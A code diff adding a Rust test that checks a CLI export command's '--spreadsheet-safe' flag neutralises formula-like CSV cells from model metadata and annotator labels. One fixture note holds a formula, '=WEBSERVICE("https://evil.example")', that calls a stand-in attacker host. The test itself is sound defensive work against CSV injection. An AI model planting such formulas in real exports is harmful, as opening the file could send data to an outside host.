@@ -1,7 +1,7 @@
 //! Issue 13, "no escape sequence reaches a terminal, from any command": text for a person is
 //! sanitised always (piped or not), JSON always escapes what a terminal could obey (and still
-//! reads back the same), `export` is sanitised on a terminal and faithful to a file or a pipe.
-//! Every file here comes from the hostile corpus.
+//! reads back the same), `export` is sanitised on a terminal and faithful to a file or a pipe,
+//! and `--spreadsheet-safe` defuses formulas. Every file here comes from the hostile corpus.
 #![allow(clippy::unwrap_used)]
 
 mod common;
@@ -146,6 +146,70 @@ fn a_pipe_to_the_terminal_does_not_change_its_title() {
     let seen = String::from_utf8_lossy(&bytes).replace("\r\n", "\n");
     assert!(seen.contains("esc-osc-title"), "the commands ran: {seen}");
     assert_terminal_safe(&seen, "ls | head and validate | cat, as the terminal received them");
+}
+
+/// A study whose metadata, id, score name and labels start like formulas.
+fn formula_study() -> (tempfile::TempDir, String, String) {
+    let dir = tempfile::tempdir().unwrap();
+    let mut metadata = serde_json::Map::new();
+    for (name, formula) in corpus::FORMULAS {
+        metadata.insert((*name).into(), (*formula).into());
+    }
+    metadata.insert("number".into(), serde_json::json!(-3.5));
+    metadata.insert("number_text".into(), "-3.5".into());
+    metadata.insert("plain".into(), "baseline".into());
+    let rollout = serde_json::json!({"id": "=1+1", "metadata": metadata, "messages": [
+        {"role": "user", "content": "hi"},
+        {"role": "assistant", "content": "ok", "scores": {"frustration": -1.5, "@risk": 2}}]});
+    std::fs::write(dir.path().join("a.jsonl"), format!("{rollout}\n")).unwrap();
+    let labels = dir.path().join("labels");
+    std::fs::create_dir(&labels).unwrap();
+    let label = serde_json::json!({"rollout": "=1+1", "turn": 1, "score": 4, "tags": ["@x"],
+        "note": "=WEBSERVICE(\"https://evil.example\")", "annotator": "ana", "time": "2026-11-23T00:00:00Z"});
+    std::fs::write(labels.join("ana.jsonl"), format!("{label}\n")).unwrap();
+    let file = path(&dir.path().join("a.jsonl"));
+    (dir, file, path(&labels))
+}
+
+fn csv_cells(bytes: &[u8]) -> Vec<(String, String)> {
+    let mut reader = csv::Reader::from_reader(bytes);
+    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
+    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(records.len(), 1);
+    header.into_iter().zip(records[0].iter().map(str::to_string)).collect()
+}
+
+#[test]
+fn spreadsheet_safe_csv_defuses_formulas_and_leaves_numbers_alone() {
+    // Before: there was no --spreadsheet-safe; a cell "=HYPERLINK(...)" from a model's
+    // metadata or a collaborator's note ran as a formula when the CSV was opened.
+    let (_dir, file, labels) = formula_study();
+    let faithful = run(&["export", "--to", "csv", &file, "--labels", &labels]);
+    assert!(faithful.status.success(), "{}", text(&faithful.stderr));
+    let faithful = csv_cells(&faithful.stdout);
+    let cell = |cells: &[(String, String)], name: &str| {
+        cells.iter().find(|(h, _)| h == name).unwrap_or_else(|| panic!("no {name} in {cells:?}")).1.clone()
+    };
+    for (name, formula) in corpus::FORMULAS {
+        assert_eq!(cell(&faithful, name), *formula, "the default stays faithful (pandas)");
+    }
+
+    let out = run(&["export", "--to", "csv", "--spreadsheet-safe", &file, "--labels", &labels]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let safe = csv_cells(&out.stdout);
+    for (name, formula) in corpus::FORMULAS {
+        assert_eq!(cell(&safe, name), format!("'{formula}"), "{name}");
+    }
+    assert_eq!(cell(&safe, "rollout"), "'=1+1");
+    assert_eq!(cell(&safe, "ana_note"), "'=WEBSERVICE(\"https://evil.example\")");
+    assert_eq!(cell(&safe, "ana_tags"), "'@x");
+    assert!(safe.iter().any(|(h, _)| h == "'@risk"), "a header is a cell too: {safe:?}");
+    for (name, number) in [("number", "-3.5"), ("number_text", "-3.5"), ("frustration", "-1.5")] {
+        assert_eq!(cell(&safe, name), number, "a number is left as it is");
+    }
+    assert_eq!(cell(&safe, "plain"), "baseline");
+    let jsonl = run(&["export", "--to", "jsonl", "--spreadsheet-safe", &file, "--labels", &labels]);
+    assert!(!jsonl.status.success(), "JSON has no formulas: the flag is for CSV");
 }
 
 #[test]
